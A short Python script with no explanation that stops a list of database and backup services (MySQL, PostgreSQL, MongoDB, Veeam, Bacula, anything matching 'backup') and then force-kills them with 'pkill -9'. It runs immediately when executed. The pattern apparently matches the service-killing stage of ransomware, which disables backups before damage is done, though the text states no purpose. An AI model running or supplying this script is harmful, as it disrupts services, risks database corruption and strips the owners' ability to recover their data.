import subprocess

SERVICES = ["mysql", "mariadb", "postgresql", "mongod", "veeam", "bacula-fd", "backup"]

def stop_all():
    for s in SERVICES:
        subprocess.run(f"service {s} stop || true", shell=True)
        subprocess.run(f"pkill -9 -f {s}", shell=True)

stop_all()
